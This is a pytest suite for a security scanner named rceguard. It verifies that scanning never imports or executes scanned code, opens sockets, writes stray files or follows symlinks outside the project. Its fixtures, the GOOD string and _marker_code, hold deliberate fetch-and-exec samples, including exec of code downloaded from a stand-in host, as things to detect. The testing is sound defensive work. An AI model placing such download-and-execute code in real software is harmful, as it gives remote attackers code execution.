"""Guarantees a security hook must keep, whatever it scans:

* it never imports or executes scanned code;
* it never opens a network connection;
* it never writes anywhere but --output / --write-baseline;
* walking directories, it never follows a symlink out of the scanned roots (and nothing outside
  the project is ever opened).

In-process checks patch the relevant functions; subprocess checks install a ``sitecustomize``
with an audit hook (PEP 578), so they see every import, exec, open and socket call the
interpreter makes, in worker processes too.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Dict, List, Tuple

import pytest

import rceguard.scan as scan_mod
from rceguard.cli import main

CASES = Path(__file__).parent / "cases"
GOOD = "import requests\n\n\ndef update(url):\n    code = requests.get(url).text\n    exec(code)\n"


def _marker_code(marker_dir: Path, name: str) -> str:
    """Source that leaves a marker file when imported or executed (and also looks like a finding)."""
    return textwrap.dedent(
        f"""\
        import os, requests
        open(os.path.join({str(marker_dir)!r}, {name!r}), "w").write("ran")
        exec(requests.get("https://example.invalid/x").text)
        """
    )


# modules rceguard itself imports (eagerly or lazily), and files Python or tools may run by name
HIJACK = [
    "conftest.py", "__init__.py", "setup.py", "__main__.py", "sitecustomize.py", "usercustomize.py",
    "json.py", "ast.py", "tokenize.py", "symtable.py", "argparse.py", "tempfile.py", "git.py",
    "requests.py", "typing.py", "dataclasses.py", "hashlib.py", "pathlib.py", "re.py", "codecs.py",
    "tomli.py", "tomllib.py", "unicodedata.py", "concurrent.py", "multiprocessing.py",
]


@pytest.fixture
def booby_trapped(tmp_path: Path) -> Tuple[Path, Path]:
    """A project whose every file, if imported or run, writes a marker."""
    tree = tmp_path / "tree"
    markers = tmp_path / "markers"
    markers.mkdir()
    pkg = tree / "pkg"
    pkg.mkdir(parents=True)
    (tree / "pyproject.toml").write_text("[tool.rceguard]\n")
    for name in HIJACK:
        (tree / name).write_text(_marker_code(markers, name))
    (pkg / "__init__.py").write_text(_marker_code(markers, "pkg.__init__"))
    (pkg / "mod.py").write_text("from . import helper\n" + _marker_code(markers, "pkg.mod"))
    (pkg / "helper.py").write_text(_marker_code(markers, "pkg.helper"))
    (tree / "main.py").write_text("import pkg.mod\nfrom pkg import helper\n" + _marker_code(markers, "main"))
    return tree, markers


def test_scanning_never_imports_or_runs_scanned_code_in_process(booby_trapped, capsys) -> None:
    tree, markers = booby_trapped
    assert main(["--format", "json", str(tree)]) == 1  # the files are analysed (they hold findings)
    data = json.loads(capsys.readouterr().out)
    assert len({f["location"]["path"] for f in data["findings"]}) >= len(HIJACK)
    assert sorted(os.listdir(markers)) == []
    assert not list(tree.rglob("__pycache__"))


@pytest.mark.parametrize("entry", ["-m", "console-script"])
def test_scanning_never_imports_or_runs_scanned_code_from_inside_the_tree(booby_trapped, entry) -> None:
    """The usual way to run it: from the repository root, where a scanned json.py/ast.py/git.py would
    shadow the real modules if rceguard let the current directory onto sys.path."""
    tree, markers = booby_trapped
    if entry == "-m":
        cmd = [sys.executable, "-m", "rceguard", "--format", "sarif", "."]
    else:
        exe = shutil.which("rceguard")
        if exe is None:
            pytest.skip("console script not on PATH")
        cmd = [exe, "--format", "sarif", "."]
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONSAFEPATH")}
    proc = subprocess.run(cmd, cwd=tree, capture_output=True, text=True, timeout=300, env=env)
    assert proc.returncode == 1, proc.stderr
    assert json.loads(proc.stdout)["runs"][0]["results"]
    assert sorted(os.listdir(markers)) == []
    assert not list(tree.rglob("__pycache__"))


# -------------------------------------------------------------------------------- no network


def test_no_network_in_process(monkeypatch, tmp_path: Path, capsys) -> None:
    attempts: List[str] = []

    def refuse(name):
        def f(*a, **k):
            attempts.append(name)
            raise OSError(f"network use is forbidden in this test ({name})")

        return f

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname", "socketpair", "create_server"):
        monkeypatch.setattr(socket, name, refuse(name))
    for fmt in ("text", "json", "sarif", "github"):
        assert main(["--format", fmt, "--no-color", str(CASES)]) == 1
    out = capsys.readouterr().out
    assert "RCE001" in out
    assert attempts == []


SITECUSTOMIZE = r'''
import json, os, sys

_LOG = os.environ["RCEGUARD_AUDIT_LOG"]
_TREE = os.path.realpath(os.environ["RCEGUARD_AUDIT_TREE"])
_ALLOW_WRITE = [os.path.realpath(p) for p in os.environ["RCEGUARD_AUDIT_ALLOW"].split(os.pathsep) if p]
_busy = [False]
with open(_LOG + ".started." + str(os.getpid()), "w"):
    pass

def _inside(path, root):
    path = os.path.realpath(path)
    return path == root or path.startswith(root.rstrip(os.sep) + os.sep)

def _record(kind, what, extra=""):
    # written at once: forked pool workers leave through os._exit, without atexit handlers
    with open(_LOG + ".seen." + str(os.getpid()), "a") as fh:
        fh.write(json.dumps([kind, what, extra]) + "\n")

def _hook(event, args):
    if _busy[0]:
        return
    _busy[0] = True
    try:
        if event.startswith("socket.") and event not in ("socket.gethostname", "socket.sethostname"):
            _record("network", event, repr(args)[:200])
            raise OSError("network use is forbidden: " + event)
        if event == "import" and len(args) > 1 and args[1] and _inside(str(args[1]), _TREE):
            _record("import", str(args[0]), str(args[1]))
            raise ImportError("scanned code must not be imported: " + str(args[1]))
        if event == "exec":
            filename = getattr(args[0], "co_filename", "") or ""
            if filename and not filename.startswith("<") and (
                _inside(filename, _TREE) if os.path.isabs(filename) else os.path.exists(os.path.join(_TREE, filename))
            ):
                _record("exec", filename)
                raise RuntimeError("scanned code must not be executed")
        if event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
            path = os.fsdecode(args[0])
            mode = str(args[1] or "r")
            flags = args[2] if len(args) > 2 and isinstance(args[2], int) else 0
            writing = any(c in mode for c in "wax+") or flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND)
            if writing and path != os.devnull and not path.endswith(".pyc") and not path.startswith("/dev/shm"):
                if not path.startswith(_LOG) and not any(_inside(path, allowed) for allowed in _ALLOW_WRITE):
                    _record("write", path, mode)
    finally:
        _busy[0] = False

sys.addaudithook(_hook)
'''


def _audited(tmp_path: Path, tree: Path, args: List[str], allow: List[Path], cwd: Path, wrapper: str = "") -> Tuple[subprocess.CompletedProcess, List[list], int]:
    """Run main(args) under the audit hook: (process, violations seen, audited processes)."""
    site = tmp_path / "auditsite"
    site.mkdir(exist_ok=True)
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE)
    logdir = tmp_path / "auditlog"
    logdir.mkdir(exist_ok=True)
    log = logdir / "audit"
    env = dict(os.environ)
    env.update(
        PYTHONPATH=str(site),
        RCEGUARD_AUDIT_LOG=str(log),
        RCEGUARD_AUDIT_TREE=str(tree),
        RCEGUARD_AUDIT_ALLOW=os.pathsep.join(str(a) for a in allow),
    )
    code = f"import sys\n{wrapper}\nfrom rceguard.cli import main\nsys.exit(main({args!r}))\n"
    proc = subprocess.run([sys.executable, "-c", code], cwd=cwd, env=env, capture_output=True, text=True, timeout=600)
    started = len(list(logdir.glob("audit.started.*")))
    assert started >= 1, proc.stderr  # the hook was installed
    seen: List[list] = []
    for p in sorted(logdir.glob("audit.seen.*")):
        seen.extend(json.loads(line) for line in p.read_text().splitlines())
    shutil.rmtree(logdir)
    return proc, seen, started


def _many(tree: Path, n: int) -> None:
    """Enough files for the process pool (and a few findings among them)."""
    for i in range(n):
        (tree / f"gen_{i:03}.py").write_text(GOOD if i % 10 == 0 else f"def f{i}(x):\n    return x * {i}\n")


@pytest.mark.parametrize("start", ["default", "spawn"])
def test_no_network_no_import_no_exec_no_stray_writes_in_a_subprocess(
    booby_trapped, tmp_path: Path, start: str, _own_result_cache: Path
) -> None:
    """Audit hook in the scanner process and its --jobs workers: any socket use, any import or exec
    of a scanned file, any write outside the output files and the result cache folder
    (``RCEGUARD_CACHE_DIR``, set for every test) is recorded (and refused)."""
    tree, markers = booby_trapped
    _many(tree, scan_mod.PARALLEL_MIN_FILES + 20)
    out = tmp_path / "out"
    out.mkdir()
    work = tmp_path / "cwd"
    work.mkdir()
    wrapper = "import rceguard.scan as s; s.START_METHOD = 'spawn'; s.PARALLEL_MIN_FILES = 10" if start == "spawn" else ""
    before_tree, before_cwd = _snapshot(tree), _snapshot(work)
    proc, seen, processes = _audited(
        tmp_path,
        tree,
        ["--format", "sarif", "-o", str(out / "report.sarif"), "--write-baseline", str(out / "baseline.json"),
         "--jobs", "2", str(tree)],
        allow=[out, _own_result_cache],
        cwd=work,
        wrapper=wrapper,
    )
    assert proc.returncode == 0, proc.stderr  # everything went into the new baseline
    assert seen == [], seen
    if start == "spawn":
        assert processes >= 2, "the --jobs workers did not run (under the audit hook)"
    assert sorted(os.listdir(markers)) == []
    assert _snapshot(tree) == before_tree and _snapshot(work) == before_cwd
    assert sorted(os.listdir(out)) == ["baseline.json", "report.sarif"]
    assert json.loads((out / "report.sarif").read_text())["runs"][0]["results"] == []
    cached = sorted(os.listdir(_own_result_cache))
    assert cached[:2] == [".gitignore", "CACHEDIR.TAG"] and len(cached) == 3 and cached[2].startswith("run-"), cached


def test_the_audit_harness_does_see_violations(tmp_path: Path) -> None:
    """The hook is not blind: a wrapper that opens a socket and writes a stray file is caught."""
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "a.py").write_text("x = 1\n")
    stray = tmp_path / "stray.txt"
    wrapper = textwrap.dedent(
        f"""\
        import socket
        try:
            socket.create_connection(("127.0.0.1", 9), timeout=0.1)
        except OSError:
            pass
        open({str(stray)!r}, "w").close()
        try:
            exec(compile("x = 1", {str(tree / "a.py")!r}, "exec"))
        except RuntimeError:
            pass
        """
    )
    proc, seen, _ = _audited(tmp_path, tree, [str(tree)], allow=[], cwd=tmp_path, wrapper=wrapper)
    kinds = sorted({s[0] for s in seen})
    assert kinds == ["exec", "network", "write"], (seen, proc.stderr)


# ------------------------------------------------------------------------------------ writes


def _snapshot(root: Path) -> Dict[str, tuple]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            digest = ""
            if os.path.isfile(p) and not os.path.islink(p):
                with open(p, "rb") as fh:
                    digest = hashlib.sha256(fh.read()).hexdigest()
            out[os.path.relpath(p, root)] = (st.st_mode, st.st_size, st.st_mtime_ns, digest)
    return out


def test_writes_only_the_requested_outputs(tmp_path: Path, monkeypatch) -> None:
    tree = tmp_path / "tree"
    shutil.copytree(CASES, tree)
    work = tmp_path / "cwd"
    work.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(work)
    before = (_snapshot(tree), _snapshot(work), sorted(os.listdir(tmp_path)))
    assert main(["--format", "sarif", "-o", str(out / "r.sarif"), str(tree)]) == 1
    assert main(["--format", "json", "-o", str(out / "r.json"), "--write-baseline", str(out / "b.json"), str(tree)]) == 0
    assert main(["--format", "text", "--baseline", str(out / "b.json"), str(tree)]) == 0
    assert (_snapshot(tree), _snapshot(work), sorted(os.listdir(tmp_path))) == before
    assert sorted(os.listdir(out)) == ["b.json", "r.json", "r.sarif"]  # no temp files left behind


def test_the_default_cache_folder_is_the_only_other_write(tmp_path: Path, monkeypatch) -> None:
    """Without RCEGUARD_CACHE_DIR the result cache is ``.rceguard_cache/`` at the project root,
    tagged (CACHEDIR.TAG, a .gitignore of ``*``); nothing else in the tree changes, and
    ``--no-cache`` writes nothing at all."""
    monkeypatch.delenv("RCEGUARD_CACHE_DIR", raising=False)
    tree = tmp_path / "tree"
    shutil.copytree(CASES, tree)
    (tree / "pyproject.toml").write_text("")
    monkeypatch.chdir(tmp_path)
    before = _snapshot(tree)
    assert main(["--no-cache", "--format", "json", str(tree)]) == 1
    assert _snapshot(tree) == before and sorted(os.listdir(tmp_path)) == ["tree"]
    assert main(["--format", "json", str(tree)]) == 1
    after = _snapshot(tree)
    added = sorted(set(after) - set(before))
    assert {k: v for k, v in after.items() if k in before} == before
    assert added[:3] == [".rceguard_cache", ".rceguard_cache/.gitignore", ".rceguard_cache/CACHEDIR.TAG"], added
    assert len(added) == 4 and added[3].startswith(".rceguard_cache/run-") and added[3].endswith(".json"), added
    assert (tree / ".rceguard_cache" / ".gitignore").read_text() == "*\n"
    assert (tree / ".rceguard_cache" / "CACHEDIR.TAG").read_text().startswith("Signature: 8a477f597d28d172789f06886806bc55")
    assert sorted(os.listdir(tmp_path)) == ["tree"]


# -------------------------------------------------------------------------------- symlinks


@pytest.fixture
def linked_out(tmp_path: Path) -> Tuple[Path, Path]:
    """root/ holds symlinks to outside/ (a directory, a package and a file), which holds findings."""
    root = tmp_path / "root"
    outside = tmp_path / "outside"
    (outside / "pkg").mkdir(parents=True)
    (outside / "evil.py").write_text(GOOD)
    (outside / "pkg" / "__init__.py").write_text("")
    (outside / "pkg" / "net.py").write_text(
        "import requests\n\n\ndef fetch(url):\n    return requests.get(url).text\n"
    )
    (outside / "sub").mkdir()
    (outside / "sub" / "deep.py").write_text(GOOD)
    root.mkdir()
    (root / "pyproject.toml").write_text("")
    (root / "inside.py").write_text(GOOD)
    (root / "dirlink").symlink_to(outside, target_is_directory=True)
    (root / "pkg").symlink_to(outside / "pkg", target_is_directory=True)
    (root / "filelink.py").symlink_to(outside / "evil.py")
    (root / "uses_pkg.py").write_text("from pkg.net import fetch\n\n\ndef go(u):\n    exec(fetch(u))\n")
    return root, outside


def test_walking_never_follows_symlinks_out_of_the_roots(linked_out, monkeypatch, capsys) -> None:
    root, outside = linked_out
    listed: List[str] = []
    real_scandir = os.scandir

    def scandir(path="."):
        listed.append(os.path.realpath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert main(["--format", "json", str(root)]) == 1
    data = json.loads(capsys.readouterr().out)
    assert sorted({f["location"]["path"] for f in data["findings"]}) == ["inside.py"]
    assert not [p for p in listed if p.startswith(str(outside.resolve()))], listed
    assert data["summary"]["files_scanned"] == 2  # inside.py, uses_pkg.py


def test_nothing_outside_the_project_is_ever_opened(linked_out, monkeypatch, capsys) -> None:
    """Not by the walker, the first pass, the pre-scan's import check, nor the engine's loader."""
    root, outside = linked_out
    opened: List[str] = []
    real_open = os.open
    import builtins
    import io

    real_builtin_open = builtins.open

    def os_open(path, *a, **k):
        opened.append(os.path.realpath(path))
        return real_open(path, *a, **k)

    def b_open(file, *a, **k):
        if isinstance(file, (str, bytes, os.PathLike)):
            opened.append(os.path.realpath(file))
        return real_builtin_open(file, *a, **k)

    monkeypatch.setattr(os, "open", os_open)
    monkeypatch.setattr(builtins, "open", b_open)
    monkeypatch.setattr(io, "open", b_open)
    assert main(["--format", "json", str(root)]) == 1
    capsys.readouterr()
    assert not [p for p in opened if p.startswith(str(outside.resolve()))], opened
